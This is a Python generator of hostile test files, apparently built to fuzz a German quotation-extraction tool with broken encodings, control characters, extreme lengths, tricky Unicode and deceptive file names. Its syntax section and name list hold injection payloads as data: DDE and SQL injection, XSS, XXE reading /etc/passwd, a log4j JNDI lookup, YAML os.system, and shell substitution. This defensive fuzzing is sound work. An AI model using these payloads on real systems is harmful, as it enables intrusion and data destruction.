"""Test data generator, no tests: hostile files of plain text, and files whose names are hostile."""

from __future__ import annotations

import base64
import codecs
import os
from collections.abc import Iterator

from hostile_base import SENTENCE, HostileFile, members, noise

_SHORT = SENTENCE.encode()
_MARKS = {
    "low": "„",
    "high": "“",
    "right": "”",
    "straight": '"',
    "guillemet-right": "»",
    "guillemet-left": "«",
    "single-low": "‚",
    "single-high": "‘",
    "apostrophe": "'",
    "backtick": "`",
}
_BROKEN = {  # bytes that are no UTF-8
    "continuation": b"\x80\xbf\x80",
    "overlong-slash": b"\xc0\xaf",
    "overlong-nul": b"\xc0\x80",
    "surrogate": b"\xed\xa0\x80",
    "beyond-unicode": b"\xf4\x90\x80\x80",
    "six-bytes": b"\xfc\x80\x80\x80\x80\x80",
    "fe-ff": b"\xfe\xff\xfe",
}
_SCRIPTS = {
    "chinese": "“我们继续努力”，市长在星期五说。",
    "arabic": "قال الوزير يوم الجمعة: «سنواصل العمل».",
    "hebrew": "„נמשיך לעבוד”, אמר ראש העיר ביום שישי. ",
    "thai": "นายกเทศมนตรีกล่าวเมื่อวันศุกร์ว่า “เราจะทำงานต่อไป” ",
    "russian": "«Мы продолжаем работу», — сказала мэр в пятницу. ",
    "gothic": "𐌰𐍄𐍄𐌰 𐌿𐌽𐍃𐌰𐍂 ",
}
_EXECUTABLE = b"\x7fELF\x02\x01\x01" + bytes(9) + noise(4, 4_000)
_CONTROLS = bytes(range(1, 32)).replace(b"\n", b"").replace(b"\r", b"")


def text_files() -> Iterator[HostileFile]:
    """Files that end in `.txt` or `.md`."""
    for group in (_binary(), _encodings(), _controls(), _quotations(), _lengths(), _unicode(), _syntax()):
        yield from members("text", group)


def _binary() -> dict[str, bytes]:
    files = {f"random-{seed}.txt": noise(seed, size) for seed, size in enumerate((1, 2, 3, 17, 300, 5_000, 60_000))}
    files |= {f"random-high-{seed}.txt": bytes(b | 0x80 for b in noise(seed, 2_000)) for seed in (11, 12)}
    files |= {f"random-tail-{seed}.txt": _SHORT * 5 + noise(seed, 500) for seed in (21, 22)}
    files["random-head.txt"] = noise(31, 500) + _SHORT * 5
    files["all-bytes.txt"] = bytes(range(256)) * 8
    files["empty.txt"] = b""
    files["empty.md"] = b""
    files["executable.txt"] = _EXECUTABLE
    files["picture.txt"] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + noise(5, 900)
    files["picture-jpeg.md"] = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + noise(6, 900)
    files["old-word.txt"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(7, 2_000)
    files["rtf.txt"] = b"{\\rtf1\\ansi " + b"{\\b " * 3_000 + b"Nein" + b"}" * 3_000 + b"}"
    files["pdf-signature.txt"] = b"%PDF-1.7\n" + _SHORT
    files["zip-signature.txt"] = b"PK\x03\x04" + _SHORT
    files["gzip-signature.txt"] = b"\x1f\x8b\x08\0" + noise(8, 300)
    return files


def _encodings() -> dict[str, bytes]:
    text = SENTENCE * 20
    sound = text.encode()
    files = {f"utf8-cut-{cut}.txt": sound[:cut] for cut in (1, 2, 24, 25, len(_SHORT) + 2)}
    files |= {f"utf8-begins-inside-{cut}.txt": sound[cut:] for cut in (1, 2)}
    files |= {f"utf8-{name}.txt": _SHORT + part * 40 + _SHORT for name, part in _BROKEN.items()}
    for name in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        mark = "\ufeff".encode(name)
        files[f"{name}.txt"] = text.encode(name)
        files[f"{name}-mark.txt"] = mark + text.encode(name)
        files[f"{name}-mark-odd.txt"] = mark + text.encode(name)[:-1]
        files[f"{name}-mark-alone.txt"] = mark
    files["utf-16-le-odd.txt"] = text.encode("utf-16-le")[:-1]
    files["utf-16-be-shifted.txt"] = text.encode("utf-16-be")[1:]
    files["utf-16-lone-surrogates.txt"] = codecs.BOM_UTF16_LE + b"\0\xd8J\0a\0\0\xdc" * 300
    files["utf-16-wrong-mark.txt"] = codecs.BOM_UTF16_BE + text.encode("utf-16-le")
    files["utf-16-half-utf8.txt"] = text.encode("utf-16-le") + sound
    files["utf-16-russian-no-mark.txt"] = (_SCRIPTS["russian"] * 20).encode("utf-16-le")
    files["utf-32-impossible.txt"] = codecs.BOM_UTF32_LE + b"\xff\xff\xff\x7f" * 200
    files["utf-7.txt"] = text.encode("utf-7")
    files["utf8-mark-alone.txt"] = codecs.BOM_UTF8
    files["utf8-mark-twice.txt"] = codecs.BOM_UTF8 * 2 + sound
    files["utf8-mark-inside.txt"] = _SHORT + codecs.BOM_UTF8 + _SHORT.replace(b"Emden", codecs.BOM_UTF8 + b"Emden")
    files["utf8-and-latin1-lines.txt"] = b"\n".join((_SHORT, "Grüße aus Köln".encode("latin-1"))) * 20
    files["cesu8-surrogates.txt"] = _SHORT + "\ud83d\ude00".encode("utf-8", "surrogatepass") * 200 + _SHORT
    files["twice-encoded.txt"] = sound.decode("latin-1").encode()
    files["ebcdic.txt"] = "Nein, sagte der Wirt am Montag in Leer. ".encode("cp500") * 20
    files["iso-2022-jp.txt"] = "「はい」と市長は言った。".encode("iso2022_jp") * 50
    return files


def _controls() -> dict[str, bytes]:
    return {
        "nul-only.txt": bytes(4_000),
        "nul-between.txt": b"\0".join(SENTENCE.encode("ascii", "replace")[i : i + 1] for i in range(len(SENTENCE))),
        "nul-one.txt": _SHORT + b"\0" + _SHORT,
        "nul-tail.txt": _SHORT + bytes(100_000),
        "control-characters.txt": _SHORT + _CONTROLS * 100 + _SHORT,
        "control-few.txt": _SHORT * 20 + b"\x07\x08\x1a" + _SHORT,
        "c1-controls.txt": _SHORT + bytes(range(0x80, 0xA0)).decode("latin-1").encode() * 50,
        "delete-characters.txt": b"\x7f" * 3_000,
        "carriage-returns-only.txt": b"\r" * 20_000,
        "lone-carriage-returns.txt": _SHORT.replace(b" ", b"\r") * 20,
        "mixed-line-ends.txt": b"".join(_SHORT + end for end in (b"\r", b"\n", b"\r\n", b"\n\r", b"\x0b", b"\x0c")) * 5,
        "unicode-line-ends.txt": "\u2028\u2029\x85".join([SENTENCE] * 40).encode(),
        "end-of-file-mark.txt": _SHORT + b"\x1a" + _SHORT,
        "backspaces.txt": _SHORT + b"x\b" * 2_000 + _SHORT,
        "ansi-escapes.txt": b"\x1b[2J\x1b[1;31m" + _SHORT + b"\x1b]0;Titel\x07\x1b[?25l\x1b[9999;9999H" + _SHORT,
        "ansi-clipboard.txt": _SHORT + b"\x1b]52;c;" + base64.b64encode(b"nichts") + b"\x07\x1bP+q\x1b\\" + _SHORT,
        "ansi-unclosed.txt": "„Ja\x1b]8;;https://example.invalid/“, sagte Anna Kern. ".encode() * 20,
        "blanks-only.txt": b" " * 50_000,
        "line-ends-only.md": b"\n" * 50_000,
        "odd-blanks-only.txt": "\u00a0\u2003\u3000\u200b\ufeff\t".encode() * 500,
    }


def _quotations() -> dict[str, bytes]:
    files = {f"marks-{name}.txt": (mark * 100_000).encode() for name, mark in _MARKS.items()}
    files["marks-mixed.txt"] = ("".join(_MARKS.values()) * 5_000).encode()
    files["marks-pairs-empty.txt"] = ('„“ »« "" ‚‘ ' * 5_000).encode()
    files["quotation-never-closed.txt"] = ("„" + "Wir machen weiter und weiter. " * 3_000).encode()
    files["quotations-all-open.txt"] = ("„Wir machen weiter, sagte Anna Kern. " * 3_000).encode()
    files["quotations-only-closed.txt"] = ("Wir machen weiter“, sagte Anna Kern. " * 3_000).encode()
    files["quotation-straight-odd.txt"] = ('"Ja", sagte Anna Kern. ' * 2_001 + '"').encode()
    files["quotation-across-paragraphs.txt"] = ("„Wir machen weiter.\n\n" * 3_000).encode()
    files["nested-quotations.txt"] = ("„Er sagte: ‚" * 2_000 + "Nein" + "‘“" * 2_000).encode()
    files["nested-brackets.txt"] = ("(" * 20_000 + SENTENCE + ")" * 20_000).encode()
    files["nested-square.md"] = ("[" * 20_000 + SENTENCE + "](x)" * 20_000).encode()
    files["nested-mixed.txt"] = ("(„[»{‚" * 3_000 + "Nein" + "‘}«]“)" * 3_000).encode()
    files["nested-crossed.txt"] = ("(„Ja)“ »„Nein«“ " * 3_000).encode()
    files["cues-said.txt"] = b"sagte er " * 5_000
    files["cues-said-commas.txt"] = b"sagte er, " * 5_000
    files["cues-that.txt"] = b"Er sagte, dass sie sagte, " * 3_000 + b"es regne."
    files["cues-according-to.txt"] = b"laut nach Angaben von " * 4_000
    files["colons.txt"] = b"Kern sagte: " * 5_000
    files["short-quotations.txt"] = "„Ja“, sagte sie. ".encode() * 5_000
    return files


def _lengths() -> dict[str, bytes]:
    return {
        "ten-megabytes-no-line-break.txt": _SHORT * (10_000_000 // len(_SHORT) + 1),
        "one-word.txt": b"a" * 250_000,
        "one-word-umlauts.txt": "ä".encode() * 120_000,
        "one-word-hyphens.txt": b"Deich-" * 40_000,
        "one-sentence-50000-words.txt": b"und die Leute " * 16_666 + b"und so",
        "sentence-of-names.txt": b"Anna Kern und " * 15_000,
        "full-stops.txt": b". " * 60_000,
        "abbreviations.txt": b"z. B. d. h. u. a. " * 8_000,
        "one-letter.txt": b"a",
        "one-mark.txt": "„".encode(),
        "lines-of-one-letter.txt": b"a\n" * 100_000,
        "paragraphs-of-one-letter.md": b"a\n\n" * 60_000,
        "digits.txt": b"1234567890" * 20_000,
        "dots-and-dashes.txt": "…–—".encode() * 20_000,
    }


def _unicode() -> dict[str, bytes]:
    long = {
        "combining-marks.txt": "a" + "\u0301" * 50_000,
        "combining-marks-no-letter.txt": "\u0308" * 20_000,
        "decomposed.txt": "Bu\u0308rgermeisterin Ko\u0308hler sagte: „Scho\u0308n.“ " * 500,
        "zalgo.txt": "".join(c + "\u0300\u0316\u0334\u0489" * 8 for c in SENTENCE * 20),
        "bidi-override.txt": "\u202e" + SENTENCE * 50,
        "bidi-nested.txt": "\u202a\u202b\u202d\u2066\u2067" * 5_000 + SENTENCE + "\u202c\u2069" * 5_000,
        "bidi-in-name.txt": "„Ja“, sagte An\u202ena Ke\u202crn. " * 500,
        "zero-width.txt": "\u200b\u200c\u200d\u2060\ufeff".join(SENTENCE * 30),
        "zero-width-only.txt": "\u200b\u200c\u200d\u2060" * 5_000,
        "soft-hyphens.txt": "\u00ad".join(SENTENCE * 100),
        "emoji-joined.txt": "👩‍👩‍👧‍👦🏳️‍🌈👩🏽‍🚒🇩🇪" * 1_500 + SENTENCE,
        "emoji-endless-join.txt": "👩‍" * 20_000,
        "emoji-as-marks.txt": "❝Ja❞, sagte 👩‍🚒 Anna 💬 Kern. " * 1_000,
        "tag-characters.txt": "🏴" + "\U000e0067" * 20_000,
        "private-use.txt": "\ue000\U000f0000\U0010fffd" * 10_000,
        "noncharacters.txt": "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff" * 5_000,
        "replacement-characters.txt": "\ufffd" * 30_000,
        "grown-by-folding.txt": "ﬃİẞǰΐ" * 10_000,
        "ligature-phrase.txt": "ﷺ" * 20_000,
        "homoglyphs.txt": "„Jа“, ѕаgtе Аnnа Kеrn. " * 1_000,
        "full-width.txt": "＂Ｊａ＂，ｓａｇｔｅ Ａｎｎａ Ｋｅｒｎ． " * 1_000,
        "mathematical.txt": "„𝐉𝐚“, 𝓼𝓪𝓰𝓽𝓮 𝔄𝔫𝔫𝔞 𝕂𝕖𝕣𝕟. " * 1_000,
        "hangul-parts.txt": "ᄀ" * 20_000 + "ᅡ" * 20_000,
    }
    long |= {f"script-{name}.txt": text * (30_000 // len(text.encode())) for name, text in _SCRIPTS.items()}
    return {name: text.encode() for name, text in long.items()}


def _syntax() -> dict[str, bytes]:
    texts = {
        "rich-markup.txt": "[bold]„Ja“[/bold], sagte [red]Anna Kern[/blue]. [/] [link=file:///etc/passwd]x[/link] \\[",
        "rich-markup-open.txt": "[bold red on blink]" * 3_000,
        "formulas.txt": '=cmd|\'/C calc\'!A0\n+1+1\n-2+3\n@SUM(1)\n=HYPERLINK("http://example.invalid","hier")\n\t=1\n',
        "formula-quotation.txt": '„=HYPERLINK(0)“, sagte =1+1 Kern. "@SUM(A1)", sagte +Anna Kern. ' * 20,
        "html-in-text.txt": "<p>„Ja“, sagte <b>Anna Kern</b>.</p><script>alert(1)</script><img src=x onerror=alert(1)>",
        "html-entities.txt": "&bdquo;Ja&ldquo;, sagte Anna Kern. &#0; &#xD800; &#x110000; &amp;amp;lt; &unbekannt; &"
        * 50,
        "entities-endless.txt": "&#" + "9" * 100_000 + ";",
        "xml-in-text.txt": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "json-in-text.txt": '{"document": {"source": "../../x"}, "claims": [null]}\n' * 50,
        "sql-in-text.txt": "„Ja'); DROP TABLE claims; --“, sagte Robert'); DELETE FROM documents; --. " * 20,
        "templates.txt": "{{ 7*7 }} ${jndi:ldap://example.invalid/a} {0.__class__} %s%n%x {% raw %} `id` $(id) " * 50,
        "paths.txt": "„../../../../etc/passwd“, sagte C:\\CON\\NUL. file:///dev/zero ~/.ssh " * 50,
        "regex-trap.txt": "a" * 30_000 + "!" + " " * 30_000 + "x",
        "addresses.txt": "http://" + "a.b" * 20_000 + " " + "x@" * 20_000,
        "base64.txt": base64.encodebytes(noise(9, 60_000)).decode(),
        "hex-dump.txt": noise(10, 60_000).hex(" "),
        "quoted-printable.txt": "=E2=80=9EJa=E2=80=9C, sagte Anna Kern.=\n" * 500,
        "front-matter.md": "---\n"
        + "a: &a [*a, *a]\n" * 500
        + "title: !!python/object/apply:os.system [id]\n---\nNein.",
        "markdown-nested.md": "> " * 20_000 + "Nein",
        "markdown-lists.md": "".join(" " * depth + "- Nein\n" for depth in range(600)),
        "markdown-emphasis.md": "*_" * 20_000 + "Nein" + "_*" * 20_000,
        "markdown-fences.md": "```\n" * 5_001,
        "markdown-links.md": "![](" * 20_000 + "[a]: a\n" * 100,
        "markdown-table.md": "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n" + "|„Ja“" * 5_000,
    }
    return {name: text.encode() for name, text in texts.items()}


def name_files() -> Iterator[HostileFile]:
    """Sound text in files with hostile names, and files whose suffix tells a lie."""
    names = {
        "mit Blanks und 'Zeichen' \"hier\".txt": _SHORT,
        "zeile\numbruch\r\t.txt": _SHORT,
        "\x1b[31mrot\x07.txt": _SHORT,
        "[bold]markup[red.txt": _SHORT,
        "=HYPERLINK(0).txt": _SHORT,
        "$(id);`id`&|*?.txt": _SHORT,
        "%2e%2e%2fweg%00.txt": _SHORT,
        "..\\..\\weg.txt": _SHORT,
        "\u202etxt.exe.txt": _SHORT,
        "u\u0308mlaut.txt": _SHORT,
        "🏴‍☠️\u200b.txt": _SHORT,
        "lang-" + "x" * 230 + ".txt": _SHORT,
        os.fsdecode(b"latin-\xfc\xff.txt"): _SHORT,
        "GROSS.TXT": _SHORT,
        "viele.pdf.docx.zip.txt": _SHORT,
        "punkte....txt": _SHORT,
        "text-als.pdf": _SHORT,
        "text-als.docx": _SHORT,
        "text-als.zip": _SHORT,
        "text-als.parquet": _SHORT,
        "text-als.jsonl.gz": _SHORT,
        "text-als.html": _SHORT,
        "text-als.eml": _SHORT,
        "text-als.csv": _SHORT,
    }
    yield from members("name", names)
